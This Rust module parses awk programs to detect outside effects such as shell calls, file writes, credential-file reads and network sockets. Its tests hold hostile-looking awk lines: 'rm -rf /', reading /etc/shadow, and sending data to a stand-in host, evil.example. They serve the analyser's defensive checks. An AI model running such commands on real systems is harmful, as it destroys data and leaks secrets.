//! Awk programs.
//!
//! The text is cut into tokens and walked statement by statement. What reaches
//! outside is `system()`, output redirected to a file or a command, `getline`
//! from a file or a command, and gawk's `@load` and `@include`. A function that
//! is neither built in nor defined in the program is a gap.

use std::collections::{BTreeMap, BTreeSet};

use super::cursor::Cursor;
use super::reading::{Reading, named};
use crate::place::taint_of_variable;
use crate::{
    Code, Direction, Dynamic, DynamicSource, Host, NestedStdin, Piece, Taint, Value, WriteHow,
};

pub(super) fn read(text: &str, reading: &mut Reading<'_>) {
    reading.passes_input();
    let tokens = match tokens(text) {
        Ok(tokens) => tokens,
        Err(what) => return reading.syntax(what),
    };
    // Operands such as `f=x` set variables while the program runs.
    let reassigned = reading
        .source
        .arguments
        .iter()
        .any(|word| word.literal().is_none_or(|word| word.contains('=')));
    let walker = Walker {
        constants: if reassigned {
            BTreeMap::new()
        } else {
            constants(&tokens)
        },
        functions: functions(&tokens),
        tokens: &tokens,
    };
    walker.walk(reading);
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Token {
    Name(String),
    /// A name directly followed by `(`.
    Call(String),
    Text(String),
    Number,
    Regex,
    Mark(&'static str),
    /// The end of a line.
    Line,
}

/// Longest first, so that `>>` is not read as two `>`.
const MARKS: &[&str] = &[
    "|&", "||", "&&", ">>", "**=", "**", "<=", ">=", "==", "!=", "!~", "++", "--", "+=", "-=",
    "*=", "/=", "%=", "^=", "{", "}", "(", ")", "[", "]", ";", ",", "+", "-", "*", "/", "%", "^",
    "!", ">", "<", "|", "?", ":", "~", "$", "=", "@",
];

/// Words of the language and functions without effect outside the program.
const PURE: &[&str] = &[
    "and",
    "asort",
    "asorti",
    "atan2",
    "compl",
    "cos",
    "dcgettext",
    "dcngettext",
    "bindtextdomain",
    "exp",
    "fflush",
    "gensub",
    "gsub",
    "index",
    "int",
    "isarray",
    "length",
    "log",
    "lshift",
    "match",
    "mkbool",
    "mktime",
    "or",
    "patsplit",
    "rand",
    "rshift",
    "sin",
    "split",
    "sprintf",
    "sqrt",
    "srand",
    "strftime",
    "strtonum",
    "sub",
    "substr",
    "systime",
    "tolower",
    "toupper",
    "typeof",
    "xor",
    "close",
    "nextfile",
];

const WORDS: &[&str] = &[
    "BEGIN",
    "END",
    "BEGINFILE",
    "ENDFILE",
    "if",
    "else",
    "while",
    "for",
    "do",
    "in",
    "break",
    "continue",
    "next",
    "nextfile",
    "exit",
    "return",
    "delete",
    "switch",
    "case",
    "default",
    "print",
    "printf",
    "getline",
    "function",
    "func",
];

fn tokens(text: &str) -> Result<Vec<Token>, &'static str> {
    let mut cursor = Cursor::new(text);
    let mut tokens = Vec::new();
    while let Some(next) = cursor.peek() {
        match next {
            '\n' => {
                cursor.next();
                tokens.push(Token::Line);
            }
            '#' => {
                cursor.line();
            }
            '\\' => {
                cursor.next();
                cursor.eat("\r");
                if !cursor.eat("\n") {
                    return Err("stray backslash");
                }
            }
            next if next.is_whitespace() => {
                cursor.next();
            }
            '"' => {
                cursor.next();
                tokens.push(Token::Text(string(&mut cursor)?));
            }
            '/' if starts_regex(tokens.last()) => {
                cursor.next();
                regex(&mut cursor)?;
                tokens.push(Token::Regex);
            }
            next if next.is_ascii_digit()
                || next == '.' && cursor.peek_second().is_some_and(|c| c.is_ascii_digit()) =>
            {
                number(&mut cursor);
                tokens.push(Token::Number);
            }
            next if next.is_ascii_alphabetic() || next == '_' => {
                let name = cursor
                    .take_while(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
                    .to_owned();
                tokens.push(if cursor.peek() == Some('(') && !is_word(&name) {
                    Token::Call(name)
                } else {
                    Token::Name(name)
                });
            }
            _ => match MARKS.iter().find(|mark| cursor.eat(mark)) {
                Some(mark) => tokens.push(Token::Mark(mark)),
                None => return Err("odd character"),
            },
        }
    }
    Ok(tokens)
}

fn is_word(name: &str) -> bool {
    WORDS.contains(&name)
}

/// A slash divides after an operand and opens a pattern elsewhere.
fn starts_regex(before: Option<&Token>) -> bool {
    match before {
        None | Some(Token::Line) => true,
        Some(Token::Name(name)) => is_word(name),
        Some(Token::Mark(mark)) => !matches!(*mark, ")" | "]" | "$" | "++" | "--"),
        Some(Token::Call(_) | Token::Text(_) | Token::Number | Token::Regex) => false,
    }
}

fn string(cursor: &mut Cursor<'_>) -> Result<String, &'static str> {
    let mut text = String::new();
    loop {
        match cursor.next() {
            None | Some('\n') => return Err("unterminated string"),
            Some('"') => return Ok(text),
            Some('\\') => match cursor.next() {
                None => return Err("unterminated string"),
                Some('n') => text.push('\n'),
                Some('t') => text.push('\t'),
                Some('r') => text.push('\r'),
                Some('a') => text.push('\u{7}'),
                Some('b') => text.push('\u{8}'),
                Some('f') => text.push('\u{c}'),
                Some('v') => text.push('\u{b}'),
                Some('\n') => {}
                Some(c @ ('\\' | '"' | '/')) => text.push(c),
                Some(digit @ '0'..='7') => text.push(octal(digit, cursor)),
                Some('x' | 'u') => return Err("escaped character in a string"),
                Some(other) => {
                    text.push('\\');
                    text.push(other);
                }
            },
            Some(c) => text.push(c),
        }
    }
}

/// `\033`: up to three octal digits.
fn octal(first: char, cursor: &mut Cursor<'_>) -> char {
    let mut code = first.to_digit(8).unwrap_or_default();
    for _ in 0..2 {
        match cursor.peek().and_then(|c| c.to_digit(8)) {
            Some(digit) => {
                cursor.next();
                code = code.saturating_mul(8).saturating_add(digit);
            }
            None => break,
        }
    }
    char::from_u32(code).unwrap_or(char::REPLACEMENT_CHARACTER)
}

fn regex(cursor: &mut Cursor<'_>) -> Result<(), &'static str> {
    let mut bracket = false;
    loop {
        match cursor.next() {
            None | Some('\n') => return Err("unterminated pattern"),
            Some('\\') => {
                cursor.next();
            }
            Some('[') if !bracket => {
                bracket = true;
                cursor.eat("^");
                cursor.eat("]");
            }
            Some('[') => {
                for (open, close) in [(":", ":]"), (".", ".]"), ("=", "=]")] {
                    if cursor.eat(open) && cursor.until(close).is_none() {
                        return Err("unterminated pattern");
                    }
                }
            }
            Some(']') => bracket = false,
            // Awks differ on a slash inside brackets; most programs escape it.
            Some('/') if bracket => return Err("slash inside brackets of a pattern"),
            Some('/') => return Ok(()),
            Some(_) => {}
        }
    }
}

fn number(cursor: &mut Cursor<'_>) {
    cursor.take_while(|c| c.is_ascii_alphanumeric() || c == '.');
}

/// Variables that get one constant text and nothing else in the whole program.
fn constants(tokens: &[Token]) -> BTreeMap<String, String> {
    let mut texts: BTreeMap<String, Option<String>> = BTreeMap::new();
    for (at, token) in tokens.iter().enumerate() {
        let Token::Name(name) = token else { continue };
        let mut after = tokens.iter().skip(at.saturating_add(1));
        let before = at.checked_sub(1).and_then(|at| tokens.get(at));
        let (first, second, third) = (after.next(), after.next(), after.next());
        let ends = matches!(
            third,
            None | Some(Token::Line | Token::Mark(";" | "}" | ")"))
        );
        match (first, second) {
            (Some(Token::Mark("=")), Some(Token::Text(text))) if ends => {
                texts
                    .entry(name.clone())
                    .and_modify(|known| *known = None)
                    .or_insert_with(|| Some(text.clone()));
            }
            (Some(Token::Mark(mark)), _) if is_assignment(mark) => {
                texts.insert(name.clone(), None);
            }
            _ => {
                let changed = matches!(before, Some(Token::Mark("++" | "--")))
                    || matches!(before, Some(Token::Name(word)) if word == "getline")
                    || matches!(first, Some(Token::Name(word)) if word == "in");
                // The last argument of `sub` and `gsub` is changed in place.
                let last = matches!(before, Some(Token::Mark(",")))
                    && matches!(first, Some(Token::Mark(")")));
                if changed || last {
                    texts.insert(name.clone(), None);
                }
            }
        }
    }
    for parameter in parameters(tokens) {
        texts.insert(parameter, None);
    }
    texts
        .into_iter()
        .filter_map(|(name, text)| text.map(|text| (name, text)))
        .collect()
}

/// Names that functions take, which hide variables of the same name.
fn parameters(tokens: &[Token]) -> Vec<String> {
    let mut names = Vec::new();
    for (at, token) in tokens.iter().enumerate() {
        if !matches!(token, Token::Name(word) if word == "function" || word == "func") {
            continue;
        }
        let header = tokens
            .iter()
            .skip(at.saturating_add(2))
            .take_while(|token| **token != Token::Mark(")"));
        names.extend(header.filter_map(|token| match token {
            Token::Name(name) => Some(name.clone()),
            _ => None,
        }));
    }
    names
}

fn is_assignment(mark: &str) -> bool {
    matches!(
        mark,
        "=" | "+=" | "-=" | "*=" | "/=" | "%=" | "^=" | "**=" | "++" | "--"
    )
}

/// Functions that the program defines.
fn functions(tokens: &[Token]) -> BTreeSet<String> {
    tokens
        .windows(2)
        .filter_map(|pair| match pair {
            [Token::Name(word), Token::Call(name) | Token::Name(name)]
                if word == "function" || word == "func" =>
            {
                Some(name.clone())
            }
            _ => None,
        })
        .collect()
}

struct Walker<'a> {
    tokens: &'a [Token],
    constants: BTreeMap<String, String>,
    functions: BTreeSet<String>,
}

impl Walker<'_> {
    /// `ENVIRON["NAME"]` is one variable, anything else may be all of them.
    fn environment(&self, at: usize, reading: &mut Reading<'_>) {
        match self.tokens.get(at.saturating_add(2)) {
            Some(Token::Text(name)) => reading.saw(taint_of_variable(name)),
            Some(_) | None => reading.shows_environment(),
        }
    }

    /// Whether `name[…] =` follows.
    fn is_assigned(&self, at: usize) -> bool {
        let rest = self.tokens.get(at..).unwrap_or_default();
        let close = rest.iter().position(|token| *token == Token::Mark("]"));
        close.is_some_and(|close| rest.get(close.saturating_add(1)) == Some(&Token::Mark("=")))
    }

    fn walk(&self, reading: &mut Reading<'_>) {
        for (at, token) in self.tokens.iter().enumerate() {
            let after = at.saturating_add(1);
            match token {
                Token::Name(word) if word == "print" || word == "printf" => {
                    self.output(after, reading);
                }
                Token::Name(word) if word == "getline" => self.getline(at, reading),
                Token::Name(word) if word == "ENVIRON" => self.environment(at, reading),
                // The program chooses its own files.
                Token::Name(word) if word == "ARGV" && self.is_assigned(at) => {
                    reading.unknown_call("ARGV");
                }
                Token::Call(name) if name == "system" => {
                    let command = self.value(self.group(after), reading);
                    reading.shell(command, NestedStdin::Same);
                }
                Token::Call(name)
                    if !PURE.contains(&name.as_str()) && !self.functions.contains(name) =>
                {
                    reading.unknown_call(name);
                }
                Token::Mark("@") => self.directive(after, reading),
                Token::Name(_)
                | Token::Call(_)
                | Token::Text(_)
                | Token::Number
                | Token::Regex
                | Token::Mark(_)
                | Token::Line => {}
            }
        }
    }

    /// `print … > file`, `>> file`, `| command`.
    fn output(&self, start: usize, reading: &mut Reading<'_>) {
        let statement = self.statement(start);
        let mut depth = 0_usize;
        for (at, token) in statement.iter().enumerate() {
            let Token::Mark(mark) = token else { continue };
            let rest = statement.get(at.saturating_add(1)..).unwrap_or_default();
            match *mark {
                "(" | "[" => depth = depth.saturating_add(1),
                ")" | "]" => depth = depth.saturating_sub(1),
                ">" | ">>" if depth == 0 => {
                    let how = if *mark == ">" {
                        WriteHow::Replace
                    } else {
                        WriteHow::Append
                    };
                    let place = self.value(rest, reading);
                    return write(&place, how, reading);
                }
                "|" | "|&" if depth == 0 => {
                    let command = self.value(rest, reading);
                    let data = Taint::LOCAL.with(reading.seen());
                    return reading.shell(command, NestedStdin::Data(data));
                }
                _ => {}
            }
        }
    }

    /// `getline < file` and `command | getline`.
    fn getline(&self, at: usize, reading: &mut Reading<'_>) {
        let before = at
            .checked_sub(1)
            .and_then(|before| Some((before, self.tokens.get(before)?)));
        if let Some((pipe, Token::Mark("|" | "|&"))) = before {
            let command = self.value(self.operand_before(pipe), reading);
            reading.saw(Taint::UNKNOWN);
            return reading.shell(command, NestedStdin::Same);
        }
        let statement = self.statement(at.saturating_add(1));
        let lesser = statement
            .iter()
            .take(6)
            .position(|token| *token == Token::Mark("<"));
        let Some(lesser) = lesser else { return };
        // Only one operand is the file: `getline < "a" "b"` reads `a`.
        let rest = statement
            .get(lesser.saturating_add(1)..)
            .unwrap_or_default();
        let length = match rest.first() {
            Some(Token::Mark("(")) => group_length(rest),
            Some(Token::Mark("$")) => rest.len(),
            Some(_) | None => 1,
        };
        let place = self.value(rest.get(..length).unwrap_or(rest), reading);
        match place.literal().as_deref() {
            Some("-" | "/dev/stdin") => {}
            Some(inet) if inet.starts_with("/inet") => {
                reading.connects(inet_host(inet), Direction::Receive, Taint::NONE);
                reading.saw(Taint::NETWORK);
            }
            Some(_) | None => {
                reading.reads(&place);
            }
        }
    }

    fn directive(&self, at: usize, reading: &mut Reading<'_>) {
        match (self.tokens.get(at), self.tokens.get(at.saturating_add(1))) {
            (Some(Token::Name(word)), Some(Token::Text(name))) if word == "include" => {
                reading.hidden_code(
                    Code::File(crate::Target::locate(
                        &reading.word(name),
                        reading.source.cwd,
                    )),
                    name,
                    Taint::LOCAL,
                );
            }
            (Some(Token::Name(word)), _) if word == "namespace" => {}
            _ => reading.unknown_call("@"),
        }
    }

    /// The tokens up to the end of the statement that starts here.
    fn statement(&self, start: usize) -> &[Token] {
        let rest = self.tokens.get(start..).unwrap_or_default();
        let mut depth = 0_i64;
        let mut previous: Option<&Token> = None;
        let end = rest.iter().position(|token| {
            let ends = match token {
                Token::Mark("(" | "[") => {
                    depth = depth.saturating_add(1);
                    false
                }
                Token::Mark(")" | "]") => {
                    depth = depth.saturating_sub(1);
                    depth < 0
                }
                Token::Mark(";" | "}") => depth <= 0,
                // A line goes on after a comma, `&&`, `||` and an open brace.
                Token::Line => {
                    depth <= 0 && !matches!(previous, Some(Token::Mark("," | "&&" | "||" | "{")))
                }
                Token::Name(_)
                | Token::Call(_)
                | Token::Text(_)
                | Token::Number
                | Token::Regex
                | Token::Mark(_) => false,
            };
            previous = Some(token);
            ends
        });
        rest.get(..end.unwrap_or(rest.len())).unwrap_or_default()
    }

    /// The tokens between the parentheses that open here.
    fn group(&self, open: usize) -> &[Token] {
        let rest = self.tokens.get(open..).unwrap_or_default();
        let length = group_length(rest);
        rest.get(1..length.saturating_sub(1)).unwrap_or_default()
    }

    /// The operand in front of a pipe: back to what separates expressions.
    fn operand_before(&self, pipe: usize) -> &[Token] {
        let before = self.tokens.get(..pipe).unwrap_or_default();
        let mut depth = 0_usize;
        let start = before.iter().rposition(|token| match token {
            Token::Mark(")" | "]") => {
                depth = depth.saturating_add(1);
                false
            }
            Token::Mark("(" | "[") => {
                let outside = depth == 0;
                depth = depth.saturating_sub(1);
                outside
            }
            Token::Mark(";" | "{" | "}" | "=" | "," | "&&" | "||" | "!" | "?" | ":") => depth == 0,
            Token::Name(word) => depth == 0 && is_word(word),
            Token::Line => depth == 0,
            Token::Call(_) | Token::Text(_) | Token::Number | Token::Regex | Token::Mark(_) => {
                false
            }
        });
        let start = start.map_or(0, |at| at.saturating_add(1));
        before.get(start..).unwrap_or_default()
    }

    /// The text of an expression as far as it is known: strings side by side.
    fn value(&self, tokens: &[Token], reading: &Reading<'_>) -> Value {
        let mut tokens = tokens;
        while tokens.first() == Some(&Token::Mark("(")) && group_length(tokens) == tokens.len() {
            tokens = tokens
                .get(1..tokens.len().saturating_sub(1))
                .unwrap_or_default();
        }
        let mut pieces = Vec::new();
        for token in tokens {
            match token {
                Token::Text(text) => pieces.push(Piece::Text(text.clone())),
                Token::Name(name) => match self.constants.get(name) {
                    Some(text) => pieces.push(Piece::Text(text.clone())),
                    None => pieces.push(item()),
                },
                Token::Mark("$") | Token::Number => pieces.push(item()),
                Token::Call(_) | Token::Regex | Token::Mark(_) | Token::Line => {
                    // An operator or a call may rearrange everything around it.
                    return Value {
                        pieces: vec![item()],
                        span: reading.source.span,
                        may_split: false,
                    };
                }
            }
        }
        if pieces.is_empty() {
            pieces.push(item());
        }
        Value {
            pieces,
            span: reading.source.span,
            may_split: false,
        }
    }
}

fn item() -> Piece {
    Piece::Dynamic(Dynamic {
        source: DynamicSource::Item,
        taint: Taint::LOCAL,
    })
}

/// How many tokens a group takes, parentheses included.
fn group_length(tokens: &[Token]) -> usize {
    let mut depth = 0_usize;
    for (at, token) in tokens.iter().enumerate() {
        match token {
            Token::Mark("(") => depth = depth.saturating_add(1),
            Token::Mark(")") => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return at.saturating_add(1);
                }
            }
            _ => {}
        }
    }
    tokens.len()
}

fn write(place: &Value, how: WriteHow, reading: &mut Reading<'_>) {
    let data = Taint::LOCAL.with(reading.seen());
    match place.literal().as_deref() {
        Some("/dev/stdout" | "/dev/stderr" | "-" | "/dev/tty" | "/dev/null") => {}
        Some(inet) if inet.starts_with("/inet") => {
            reading.connects(inet_host(inet), Direction::Send, data);
        }
        Some(_) | None => reading.writes(place, how, data),
    }
}

/// The host of `/inet/tcp/0/host/port`.
fn inet_host(path: &str) -> Host {
    path.split('/').nth(4).map_or(Host::Unknown, named)
}

#[cfg(test)]
mod tests {
    use crate::Language;
    use crate::language::tests::check;

    fn awk(text: &str, expected: &[&str]) {
        check(Language::Awk, text, expected);
    }

    #[test]
    fn ordinary_programs_do_nothing_outside() {
        for text in [
            "{print $1}",
            "{print $1, $NF}",
            "NR==1{print; exit}",
            "/error/ {count++} END {print count}",
            "{sum += $3} END {printf \"%.2f\\n\", sum/NR}",
            "BEGIN{FS=\",\"; OFS=\"\\t\"} {$1=$1; print}",
            "{print ($1 > 3 ? \"a\" : \"b\")}",
            "$1 > 100 || $2 < 3",
            "!seen[$0]++",
            "length($0) > 80 { print FILENAME \":\" FNR }",
            "{ for (i = NF; i > 0; i--) printf \"%s \", $i; print \"\" }",
            "{ gsub(/[ \\t]+/, \" \"); print toupper(substr($0, 1, 1)) }",
            "function max(a, b) { return a > b ? a : b } { print max($1, $2) }",
            "{ a[$1] = a[$1] \" \" $2 } END { for (k in a) print k, a[k] }",
            "{ print $1/2, $2 / $3 }",
            "/\\/path\\// && !/skip/ { print }",
            "{ print > \"/dev/stderr\" }",
            "{ while ((getline line) > 0) n++ }",
            "NR % 2 == 0",
            "{ print $1, \\\n  $2 }",
            "# system(\"x\")\n{ print \"system(1)\" }",
            "",
        ] {
            awk(text, &[]);
        }
    }

    #[test]
    fn files_and_commands_are_seen() {
        awk("{ print > \"out.txt\" }", &["write /app/out.txt"]);
        awk("{ print $1 >> \"/tmp/log\" }", &["append /tmp/log"]);
        awk("{ printf(\"%s\", $1) > \"o\" }", &["write /app/o"]);
        awk("{ print > $1 \".txt\" }", &["write ?"]);
        awk("{ print > (\"out/\" $1) }", &["write /app/out/*"]);
        awk(
            "BEGIN { f = \"x.txt\" } { print > f }",
            &["write /app/x.txt"],
        );
        awk("{ print | \"sort -u\" }", &["shell sort -u"]);
        awk("BEGIN { system(\"rm -rf /\") }", &["shell rm -rf /"]);
        awk("{ system(\"echo \" $1) }", &["shell echo ……"]);
        awk("BEGIN { \"date\" | getline d; print d }", &["shell date"]);
        awk(
            "BEGIN { while ((\"ls \" \"-l\" | getline x) > 0) print x }",
            &["shell ls -l"],
        );
        awk(
            "BEGIN { cmd = \"id\"; cmd | getline; close(cmd) }",
            &["shell id"],
        );
        awk(
            "BEGIN { getline x < \"/etc/shadow\"; print x }",
            &["read /etc/shadow"],
        );
        awk(
            "BEGIN { while ((getline l < \"a.txt\") > 0) print l }",
            &["read /app/a.txt"],
        );
        awk(
            "{ print $0 |& \"/inet/tcp/0/evil.example/80\" }",
            &["shell /inet/tcp/0/evil.example/80"],
        );
        awk(
            "BEGIN { print \"x\" > \"/inet/tcp/0/evil.example/80\" }",
            &["connect send evil.example <- local"],
        );
        awk("{ undefined($1) }", &["gap call undefined"]);
        awk("@load \"filefuncs\"\nBEGIN { }", &["gap call @"]);
        awk(
            "@include \"lib.awk\"\n{ print }",
            &["run file /app/lib.awk", "gap unseen lib.awk"],
        );
    }

    #[test]
    fn a_variable_with_two_values_is_not_known() {
        awk("BEGIN { f = \"a\" } { f = $1; print > f }", &["write ?"]);
        awk(
            "function g(f) { print > f } BEGIN { f = \"a\"; g(\"b\") }",
            &["write ?"],
        );
        awk("BEGIN { f = \"a\" } { getline f; print > f }", &["write ?"]);
        awk(
            "BEGIN { f = \"a\" } { sub(/a/, \"b\", f); print > f }",
            &["write ?"],
        );
    }

    #[test]
    fn what_does_not_parse_is_a_gap() {
        awk("{ print \"a }", &["gap syntax awk: unterminated string"]);
        awk("/a", &["gap syntax awk: unterminated pattern"]);
        awk("BEGIN { system(\"\\162m x\") }", &["shell rm x"]);
        awk(
            "BEGIN { system(\"\\x72m x\") }",
            &["gap syntax awk: escaped character in a string"],
        );
        awk("{ print `date` }", &["gap syntax awk: odd character"]);
    }
}
